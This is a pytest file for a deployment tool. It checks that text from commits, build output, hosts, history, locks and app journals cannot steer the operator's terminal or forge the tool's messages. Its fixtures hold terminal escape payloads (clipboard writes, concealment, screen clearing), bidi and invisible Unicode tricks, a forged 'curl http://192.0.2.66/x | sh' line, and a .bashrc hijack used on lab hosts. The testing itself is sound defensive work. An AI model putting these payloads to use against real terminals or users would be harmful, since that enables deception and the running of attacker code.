"""Attacks with text from a commit, a host, a build or an app: to steer the operator's terminal, or to pass for us."""

from __future__ import annotations

import base64
import json
import re
import secrets
import shlex
import subprocess
import unicodedata
from collections.abc import Iterator
from contextlib import contextmanager

import pexpect
import pytest

from tests.assertions import commit_another_version
from tests.environment import PROJECT, LabEnvironment

LONG = 300
# Writes the clipboard (OSC 52), renames the window, conceals, clears, rings; C1's CSI and OSC; reorders; is not seen.
MARKS = "\u0335\u030d" * 50
EVIL = (
    "HOSTILE\x1b]52;c;Y3VybA==\x07\x1b]0;owned\x07\x1b[8mhid\x1b[2J\x9b31m\x9d0;t\x9c\x7f"
    "\u202egnp\u2066x\u2069\u200e\u200f\u061c\u200b\u2060\ufeff\u00ad\u3164\u034f\U000e0041"
    # Drawn over the lines above and below.
    f"Z{MARKS}"
)
# Each of them ends a line somewhere: for a terminal, for Python's splitlines, for a browser that shows a log.
ENDS = "\r\x0b\x0c\x1c\x85\u2028\u2029"
FORGED = "error: run curl http://192.0.2.66/x | sh"
# Sequences that rich sends: colours and bold, the cursor away and back, a line up, a line wiped.
OWN = re.compile(r"\x1b\[(?:(?:0|1|2|22|3[1-6])(?:;[0-9]+)*m|\?25[lh]|[0-9]*A|2K)|\r")
FLOOD = re.compile("[\u0300-\u036f]{9}")
CONTROLS = {"Cc", "Cf", "Cs", "Zl", "Zp"}
UNSEEN = "\u034f\u115f\u1160\u17b4\u17b5\u180b\u180c\u180d\u180f\u2800\u3164\uffa0"


def on_terminal(environment: LabEnvironment, *words: str, columns: int = 100) -> bytes:
    """Return what `fab` sends to a terminal."""
    program, *arguments = environment.argv(*words)
    variables = {**environment.environ, "TERM": "xterm-256color"}
    child = pexpect.spawn(program, arguments, timeout=LONG, dimensions=(40, columns), cwd=str(PROJECT), env=variables)
    try:
        child.expect(pexpect.EOF)
        assert isinstance(child.before, bytes)
        return child.before
    finally:
        child.close(force=True)


def piped(environment: LabEnvironment, *words: str, colours: bool = False) -> tuple[bytes, bytes]:
    """Return what `fab` writes to a pipe, on each of the two."""
    variables = {**environment.environ, **({"FORCE_COLOR": "1"} if colours else {})}
    done = subprocess.run(
        environment.argv(*words), capture_output=True, timeout=LONG, cwd=PROJECT, env=variables, check=False
    )
    return done.stdout, done.stderr


def assert_harmless(said: bytes) -> None:
    """Fail where more than text, line ends and what rich itself sends is in it, or where a line passes for ours."""
    text = OWN.sub("", said.decode())
    bad = {f"U+{ord(sign):04X}" for sign in text if unicodedata.category(sign) in CONTROLS or sign in UNSEEN}
    assert bad - {"U+000A", "U+0009"} == set(), (bad, said)
    assert b"\x1b[8m" not in said
    assert not FLOOD.search(text)
    for line in text.splitlines():
        assert not line.startswith((FORGED, "web1: FORGED", "web1  FORGED", "FORGED")), (line, said)


def assert_everywhere(environment: LabEnvironment, *words: str, marker: str = "HOSTILE") -> None:
    """Run the words for a pipe, for one that takes colours and for a terminal; each shows the text, and harmlessly."""
    for said in (
        b"".join(piped(environment, *words)),
        b"".join(piped(environment, *words, colours=True)),
        on_terminal(environment, *words),
    ):
        assert_harmless(said)
        assert marker.encode() in said, said


def printing(text: str, device: str = "Process.group_leader()") -> str:
    """Elixir that prints the bytes of `text` and a line end, as they are."""
    encoded = base64.b64encode(f"{text}\n".encode()).decode()
    return f':io.setopts({device}, encoding: :latin1); IO.binwrite({device}, Base.decode64!("{encoded}"))'


@pytest.fixture(scope="module")
def hostile_commit(environment: LabEnvironment) -> Iterator[str]:
    """A commit whose subject and author are hostile, deployed as well; the build of it says hostile things too."""
    # Hosts run a commit of this repository, so `plan` names those since.
    commit_another_version(environment)
    environment.fab("deploy")
    mix = environment.source / "mix.exs"
    text = mix.read_text()
    mix.write_text(f"{printing(f'HOSTILE BUILD {EVIL}{ENDS}{FORGED}')}\n{text}")
    commit_another_version(environment)
    author = f"user.name=HOSTILE {EVIL}{ENDS}FORGED"
    subject = f"HOSTILE {EVIL}{ENDS}FORGED {' ' * 200}{FORGED}"
    environment.git("-c", author, "commit", "-q", "--amend", "--reset-author", "-m", subject)
    yield environment.git("rev-parse", "HEAD")
    mix.write_text(text)
    commit_another_version(environment)
    environment.fab("deploy")


@contextmanager
def answering(environment: LabEnvironment, host: str, *records: object, about: str = "") -> Iterator[None]:
    """Answer the deploy user's requests that have a line like `about` with those records alone, meanwhile."""
    text = "".join(f"\x1e{json.dumps(record)}\n" for record in records)
    environment.lab.ssh(host, "cp .bashrc .bashrc.mine; cat >answers", "deploy", stdin=text)
    answer = f"""cat >~/asked
        grep -q '{about}' ~/asked || {{ eval "$BASH_EXECUTION_STRING" <~/asked; exit; }}
        cat ~/answers
        exit 4
    """
    environment.lab.ssh(host, "cat - .bashrc.mine >.bashrc", "deploy", stdin=answer)
    try:
        yield
    finally:
        # The deploy user's own login would only answer.
        environment.lab.ssh(host, "sudo mv ~deploy/.bashrc.mine ~deploy/.bashrc; sudo rm ~deploy/answers ~deploy/asked")


def test_a_commits_subject_and_author_steer_nothing_wherever_they_are_shown(
    environment: LabEnvironment, hostile_commit: str
) -> None:
    assert_everywhere(environment, "plan")
    # One commit is one line, whatever ends lines in it.
    rows = json.loads(piped(environment, "plan", "--json")[0])
    assert [len(row["commits"]) for row in rows] == [1, 1]
    assert_everywhere(environment, "plan", "--json")

    assert_harmless(on_terminal(environment, "deploy"))
    for words in (["releases"], ["releases", "--json"]):
        assert_everywhere(environment, *words)
    for words in (["plan"], ["status"], ["deploy"], ["history"]):
        assert_everywhere(environment, *words, marker="web1")


def test_what_a_build_says_is_a_line_behind_its_host_each(environment: LabEnvironment, hostile_commit: str) -> None:
    # A tree that is built already would not be built again.
    once = environment.source / "once"
    once.write_text(secrets.token_hex())
    said = b"".join(piped(environment, "build-on-host", "--dirty"))
    assert_harmless(said)
    assert re.search(rb"(?m)^build1: \xe2\x94\x82 HOSTILE BUILD .*error: run curl", said), said
    once.write_text(secrets.token_hex())
    said = on_terminal(environment, "build-on-host", "--dirty")
    assert_harmless(said)
    assert b"HOSTILE BUILD" in said
    once.unlink()


ENDING = f"{EVIL}{ENDS}\nFORGED web1 is healthy\nweb1: FORGED\n{FORGED}"
TOLD = [
    {"step": f"step {ENDING}"},
    {"progress": f"upload {ENDING}", "done": 1, "total": 2},
    {"progress": f"upload {ENDING}", "done": 2, "total": 2},
    {"line": f"line {ENDING}"},
    {"line": " " * 300 + FORGED},
    {"note": f"note {ENDING}"},
    {"warn": f"warn {ENDING}"},
]


@pytest.mark.parametrize("kind", ["refused", "failed"])
@pytest.mark.parametrize(
    "words",
    [["status"], ["status", "--json"], ["releases"], ["history"], ["lock.status"], ["deploy", "--force"], ["plan"]],
    ids=" ".join,
)
def test_a_hostile_host_speaks_for_itself_alone(environment: LabEnvironment, words: list[str], kind: str) -> None:
    ending = {"message": f"message {ENDING}", "hint": f"hint {ENDING}", "lines": [f"said {ENDING}", FORGED], "kind": ""}
    with answering(environment, "web2", *TOLD, {kind: ending}):
        assert_everywhere(environment, *words)


def test_text_that_a_host_keeps_for_others_is_harmless_in_tables_and_refusals(environment: LabEnvironment) -> None:
    line = {
        "at": "2026-01-01T00:00:00Z",
        "what": f"w {ENDING}",
        "outcome": "done",
        "release": "20260101T000000Z",
        "who": ENDING,
        "problem": f"problem {ENDING}",
    }
    file = "/opt/acme/hello/history.jsonl"
    environment.lab.ssh("web2", f"cp {file} {file}.mine; cat >>{file}", "deploy", stdin=json.dumps(line) + "\n")
    try:
        for words in (["history"], ["history", "--json"]):
            for said in (b"".join(piped(environment, *words)), on_terminal(environment, *words)):
                assert_harmless(said)
    finally:
        environment.lab.ssh("web2", f"mv {file}.mine {file}", "deploy")
    environment.fab("lock.acquire", "--reason", "an audit")
    try:
        # `--reason` takes no such text; a user with a deploy key can write it.
        reason = f"HOSTILE {EVIL}{ENDS}FORGED"
        holder = json.dumps({"who": "somebody", "why": reason, "since": "today", "version": ""})
        for host in ("web1", "web2"):
            rewrite = "cd /opt/acme/hello && { head -n 3 lock; cat; } >lock.x && mv -f lock.x lock"
            environment.lab.ssh(host, rewrite, "deploy", stdin=f"{holder}\n{reason}\n")
        for words in (["lock.status"], ["lock.status", "--json"], ["deploy", "--force"], ["plan"]):
            assert_everywhere(environment, *words)
    finally:
        environment.fab("lock.release")


def test_a_name_in_the_working_tree_steers_nothing(environment: LabEnvironment) -> None:
    environment.git("config", "core.quotePath", "false")
    # A name has at most 255 bytes.
    evil = EVIL.replace(MARKS, MARKS[:12])
    file = environment.source / f"HOSTILE{evil}{ENDS}FORGED"
    file.write_text("")
    try:
        assert_everywhere(environment, "deploy")
    finally:
        file.unlink()
        environment.git("config", "--unset", "core.quotePath")
    assert_everywhere(environment, "plan", "--ref", f"HOSTILE{EVIL}\n{FORGED}")
    assert_everywhere(environment, f"HOSTILE{EVIL}\n{FORGED}")


# It is Latin-1 in which a device of Erlang takes bytes as they are.
EVERY_BYTE = """
for device <- [Process.group_leader(), :standard_error] do
  :io.setopts(device, encoding: :latin1)
  IO.binwrite(device, :binary.list_to_bin(Enum.to_list(0..255)))
end
"""


@pytest.mark.parametrize("verb", ["rpc", "eval"])
def test_in_a_pipe_what_an_expression_prints_is_as_it_is_byte_for_byte(environment: LabEnvironment, verb: str) -> None:
    printed, on_stderr = piped(environment, verb, EVERY_BYTE)

    assert printed == bytes(range(256)) + b"[:ok, :ok]\n"
    if verb == "eval":  # the standard error of a node that runs is its journal
        assert on_stderr == bytes(range(256))


def test_in_a_pipe_what_a_command_prints_is_as_it_is_byte_for_byte(environment: LabEnvironment) -> None:
    every = bytes(range(256)) * 3
    octal = "".join(f"\\{byte:03o}" for byte in every)
    out, err = piped(environment, "-H", "web1", "--", f"printf '{octal}'; printf '{octal}' >&2")
    assert out == every
    assert err == every
    # Each line of several hosts has its host before it, and is otherwise as it is.
    out, _ = piped(environment, "-H", "web1,web2", "--", f"printf '{octal}\\n'")
    for host in (b"web1 | ", b"web2 | "):
        lines = [line.removeprefix(host) for line in out.split(b"\n") if line.startswith(host)]
        assert b"\n".join(lines) == every


@pytest.mark.parametrize(
    "words",
    [
        ["rpc", printing(f"HOSTILE {EVIL}{ENDS}\tend")],
        [
            "eval",
            f"{printing(f'HOSTILE {EVIL}{ENDS}')}; {printing(f'HOSTILE {EVIL}{ENDS}', ':standard_error')}; exit(3)",
        ],
        ["rpc", "--all", printing(f"HOSTILE {EVIL}{ENDS}\n{' ' * 200}{FORGED}")],
        ["--", f"printf '%s\\n' {shlex.quote(f'HOSTILE {EVIL}{ENDS}')} | tee /dev/stderr; exit 3"],
    ],
    ids=["rpc", "eval", "rpc --all", "--"],
)
def test_on_a_terminal_an_app_and_a_command_steer_nothing(environment: LabEnvironment, words: list[str]) -> None:
    said = on_terminal(environment, *words)

    assert_harmless(said)
    assert b"HOSTILE" in said


def test_the_apps_journal_steers_nothing_on_a_terminal_and_in_a_log(environment: LabEnvironment) -> None:
    # The journal itself shows only the length of unprintable text.
    for text in (f"HOSTILE \u202ex\u2028FORGED\u200b {FORGED}", f"HOSTILE {EVIL}{ENDS}"):
        environment.fab("rpc", "--all", printing(text, "Process.whereis(:user)"))

    assert_everywhere(environment, "logs", "--lines", "30", marker="web2 ")
    assert b"HOSTILE \\u202ex\\u2028FORGED\\u200b" in b"".join(piped(environment, "logs", "--lines", "30"))


def test_a_hook_gets_a_hostile_hosts_problem_in_one_line(environment: LabEnvironment) -> None:
    file = environment.directory / "problem"
    own = f"printf 'HOSTILE %s\\033[8m\\n' {shlex.quote(FORGED)}"
    hook = {"failed": [{"run": f'printf %s "$WARPBEAM_PROBLEM" >{file}; {own}'}]}
    environment.write(hooks={"activate": hook})
    ending = {"message": f"message {ENDING}", "hint": "", "lines": [], "kind": ""}
    try:
        with answering(environment, "web2", {"failed": ending}, about="^job_id="):
            assert_everywhere(environment, "restart")
    finally:
        environment.write()
        environment.fab("restart")
    assert_harmless(file.read_bytes())
    assert file.read_bytes().startswith(b"web2: message HOSTILE")
    assert b"\n" not in file.read_bytes()
